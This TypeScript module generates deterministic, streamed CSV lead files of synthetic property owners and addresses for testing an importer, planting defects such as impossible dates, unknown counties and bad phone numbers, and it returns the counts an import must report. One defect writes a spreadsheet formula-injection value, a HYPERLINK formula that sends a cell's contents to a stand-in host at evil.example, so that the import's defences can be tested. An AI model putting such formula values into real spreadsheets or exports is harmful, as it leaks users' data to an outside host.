/**
 * Generates realistic lead files: the same for the same seed, of any size, streamed. With defects, it also says what an
 * import must find.
 */
import type { LeadRowReason } from '#contract/admin/lead-file-fields.ts'
import { LEAD_TYPES } from '#contract/catalogue/catalogue.ts'
import { loadZipCounties } from '#server/features/stock/zip-counties.ts'
import * as words from './lead-file-words.ts'
import { randomFrom } from './random-from.ts'

const ZIPS_BY_COUNTY = new Map<number, string[]>()
for (const [zip, counties] of await loadZipCounties())
  for (const fips of counties) ZIPS_BY_COUNTY.set(fips, [...(ZIPS_BY_COUNTY.get(fips) ?? []), zip])

/** The ZIP codes that lie in a county, also those that lie in others too. */
export const zipsOf = (fips: string): readonly string[] => ZIPS_BY_COUNTY.get(Number(fips)) ?? ['78701']

export interface LeadFileCounty {
  fips: string
  state: string
  name: string
}

export interface LeadFileOptions {
  rows: number
  seed: number
  /** `YYYY-MM-DD`; leads are up to 58 days older. */
  today: string
  /** Where the properties are; most of them in the first ones. */
  counties: readonly LeadFileCounty[]
  /** About 4 rows of 100 are wrong in one of the ways that `ExpectedCounts` counts. */
  hasDefects: boolean
}

/** What an import of the file into an empty store must report. */
export interface ExpectedCounts {
  rowsRead: number
  newLeads: number
  repeated: number
  refused: Partial<Record<LeadRowReason, number>>
  leftOut: { phones: number }
}

export const LEAD_FILE_HEADER = [
  'Property Address,City,State,Zip,County,FIPS,Lead Type,Owner 1,Owner 2',
  'Mailing Address,Mailing City,Mailing State,Mailing Zip',
  'Phone 1,Phone 1 Type,Phone 1 DNC,Phone 2,Phone 2 Type,Phone 2 DNC,Email',
  'Est. Value,Est. Equity %,Beds,Year Built,Last Sale Date,Acquired,DNC,Consent',
].join(',')

const CHUNK_CHARACTERS = 64 * 1024
const NUMBERS = 9_900
/** Multiplied by a prime, all combinations of streets and numbers come once before any comes twice. */
const PROPERTIES = NUMBERS * words.STREETS.length * words.SUFFIXES.length * words.DIRECTIONS.length
const STEP = 1_000_003
const AGE_MAX_DAYS = 58

const DEFECTS = [
  ...['date_impossible', 'date_future', 'date_old', 'county_foreign', 'county_code_unknown', 'repeated', 'repeated'],
  ...['other_owner', 'other_list', 'formula', 'phone', 'phone', 'cells', 'zip', 'owner', 'type'],
] as const
type Defect = 'none' | (typeof DEFECTS)[number]
const DEFECT_SHARE = 0.04

const REASON: Readonly<Partial<Record<Defect, LeadRowReason>>> = {
  date_impossible: 'acquired_unreal',
  date_future: 'acquired_in_future',
  date_old: 'acquired_too_old',
  county_foreign: 'state_unknown',
  county_code_unknown: 'county_unknown',
  other_owner: 'outdated',
  other_list: 'outdated',
  formula: 'formula',
  cells: 'cells',
  zip: 'zip_invalid',
  owner: 'owner_missing',
  type: 'lead_type_unknown',
}

/** A row before it is written. */
interface Row {
  number: number
  street: string
  suffix: readonly [string, string]
  direction: readonly [string, string]
  city: string
  county: LeadFileCounty
  zip: string
  leadType: string
  owner: string
  ageDays: number
}

class Maker {
  readonly #options: LeadFileOptions
  readonly #random: () => number
  readonly #dayOf: (ageDays: number) => string
  /** Rows that another may repeat. */
  readonly #recent: Row[] = []
  #made = 0
  readonly counts: ExpectedCounts = { rowsRead: 0, newLeads: 0, repeated: 0, refused: {}, leftOut: { phones: 0 } }

  constructor(options: LeadFileOptions) {
    this.#options = options
    this.#random = randomFrom(options.seed)
    const today = Date.parse(`${options.today}T00:00:00Z`)
    const days = new Map<number, string>()
    this.#dayOf = (ageDays) => {
      const known = days.get(ageDays)
      if (known) return known
      const day = new Date(today - ageDays * 86_400_000).toISOString().slice(0, 10)
      days.set(ageDays, day)
      return day
    }
  }

  #below = (count: number): number => Math.floor(this.#random() * count)
  #oneOf = <Item>(items: readonly Item[]): Item => items[this.#below(items.length)] as Item

  #age(): number {
    const part = this.#random()
    if (part < 0.05) return this.#below(3)
    if (part < 0.2) return 3 + this.#below(7)
    return part < 0.55 ? 10 + this.#below(20) : 30 + this.#below(AGE_MAX_DAYS - 29)
  }

  #owner(): string {
    if (this.#random() < 0.06) return `${this.#oneOf(words.LAST_NAMES)} ${this.#oneOf(words.COMPANIES)}`
    return `${this.#oneOf(words.FIRST_NAMES)} ${this.#oneOf(words.LAST_NAMES)}`
  }

  #fresh(): Row {
    const { counties, seed } = this.#options
    let place = (this.#made * STEP + seed * 7_919) % PROPERTIES
    this.#made += 1
    const take = (count: number) => {
      const taken = place % count
      place = Math.floor(place / count)
      return taken
    }
    const county = counties[Math.floor(this.#random() ** 2 * counties.length)] as LeadFileCounty
    return {
      number: 100 + take(NUMBERS),
      street: words.STREETS[take(words.STREETS.length)] ?? '',
      suffix: words.SUFFIXES[take(words.SUFFIXES.length)] ?? words.SUFFIXES[0],
      direction: words.DIRECTIONS[take(words.DIRECTIONS.length)] ?? words.DIRECTIONS[0],
      city: this.#oneOf(words.CITIES),
      county,
      zip: this.#oneOf(zipsOf(county.fips)),
      leadType: this.#oneOf(LEAD_TYPES),
      owner: this.#owner(),
      ageDays: this.#age(),
    }
  }

  #phone(county: LeadFileCounty): string {
    const code = words.AREA_CODES[(Number(county.fips) + this.#below(2)) % words.AREA_CODES.length] ?? '512'
    const exchange = 220 + this.#below(700)
    const line = String(this.#below(10_000)).padStart(4, '0')
    const form = this.#below(3)
    return form === 0
      ? `(${code}) ${exchange}-${line}`
      : form === 1
        ? `${code}${exchange}${line}`
        : `+1 ${code}-${exchange}-${line}`
  }

  /** The defect of the next row; none that needs an earlier row before there is one. */
  #defect(): Defect {
    if (!this.#options.hasDefects || this.#random() >= DEFECT_SHARE) return 'none'
    const defect = this.#oneOf(DEFECTS)
    const needsEarlier = defect === 'repeated' || defect === 'other_owner' || defect === 'other_list'
    return needsEarlier && this.#recent.length < 10 ? 'none' : defect
  }

  /** An earlier row that nothing else repeats. */
  #earlier(): Row {
    const [row] = this.#recent.splice(this.#below(this.#recent.length), 1)
    return row as Row
  }

  next(): string {
    const defect = this.#defect()
    this.counts.rowsRead += 1
    const reason = REASON[defect]
    if (reason) this.counts.refused[reason] = (this.counts.refused[reason] ?? 0) + 1
    else if (defect === 'repeated') this.counts.repeated += 1
    else this.counts.newLeads += 1
    if (defect === 'phone') this.counts.leftOut.phones += 1
    if (defect === 'repeated') return this.#write({ ...this.#earlier(), ageDays: this.#age() }, defect)
    if (defect === 'other_owner' || defect === 'other_list') {
      const row = this.#earlier()
      const leadType = this.#oneOf(LEAD_TYPES.filter((type) => type !== row.leadType))
      const other = defect === 'other_list' ? { leadType } : { owner: `${row.owner} Junior` }
      return this.#write({ ...row, ...other, ageDays: row.ageDays + 1 }, defect)
    }
    const row = this.#fresh()
    if (defect === 'none') {
      if (this.#recent.length >= 200) this.#recent.shift()
      this.#recent.push(row)
    }
    return this.#write(row, defect)
  }

  #write(row: Row, defect: Defect): string {
    const way = this.#below(2)
    const street = [row.number, row.direction[way], row.street, row.suffix[1 - way]].filter(Boolean).join(' ')
    const isForeign = defect === 'county_foreign'
    const { county } = row
    const [isMailedHome, built] = [this.#random() < 0.3, 1920 + this.#below(104)]
    const stateCode = words.STATE_CODES[county.state] ?? county.state
    const cells = [
      way ? street.toUpperCase() : street,
      row.city,
      isForeign ? 'Ontario' : this.#below(2) ? stateCode : county.state,
      defect === 'zip' ? 'K1A 0B1' : row.zip,
      isForeign ? 'Toronto' : county.name,
      isForeign ? '' : defect === 'county_code_unknown' ? '99999' : county.fips,
      defect === 'type' ? 'castle' : row.leadType,
      this.#ownerCell(row, defect),
      '',
      row.leadType === 'owner' || (row.leadType === 'vacant' && isMailedHome)
        ? street
        : `PO Box ${100 + this.#below(9_000)}`,
      row.leadType === 'landlord' ? this.#oneOf(words.CITIES) : row.city,
      stateCode,
      row.zip,
      defect === 'phone'
        ? this.#oneOf(['555-12', '(000) 000-0000', '112-555-0199', 'call office'])
        : this.#phone(county),
      this.#oneOf(['Mobile', 'Landline', 'VoIP', '']),
      this.#random() < 0.1 ? 'Y' : 'N',
      this.#random() < 0.4 ? this.#phone(county) : '',
      '',
      '',
      this.#random() < 0.5 ? `owner${this.#made}@example.com` : '',
      `"$${80 + this.#below(900)},000"`,
      `${this.#below(101)}%`,
      1 + this.#below(6),
      built,
      `${1 + this.#below(12)}/${1 + this.#below(28)}/${Math.max(1995, built) + this.#below(2025 - Math.max(1995, built))}`,
      this.#acquiredCell(row, defect),
      this.#random() < 0.05 ? 'Yes' : '',
      this.#random() < 0.2 ? 'Agreed to be called about offers' : '',
    ]
    if (defect === 'cells') cells.push('one too many')
    return `${cells.join(',')}\n`
  }

  #ownerCell({ owner }: Row, defect: Defect): string {
    if (defect === 'owner') return ''
    if (defect === 'formula') return `"=HYPERLINK(""http://evil.example/?""&A1,""${owner}"")"`
    return owner.includes(',') ? `"${owner}"` : owner
  }

  #acquiredCell({ ageDays }: Row, defect: Defect): string {
    if (defect === 'date_impossible') return this.#oneOf(['2026-02-30', '2/30/2026', '31-Apr-26'])
    if (defect === 'date_future') return this.#dayOf(-2 - this.#below(30))
    if (defect === 'date_old') return this.#dayOf(63 + this.#below(300))
    return this.#dayOf(ageDays)
  }
}

/** Generates a lead file, part by part as text; returns what an import must find in it. */
export function* makeLeadFile(options: LeadFileOptions): Generator<string, ExpectedCounts> {
  const maker = new Maker(options)
  let text = `${LEAD_FILE_HEADER}\n`
  for (let row = 0; row < options.rows; row += 1) {
    text += maker.next()
    if (text.length < CHUNK_CHARACTERS) continue
    yield text
    text = ''
  }
  yield text
  return maker.counts
}
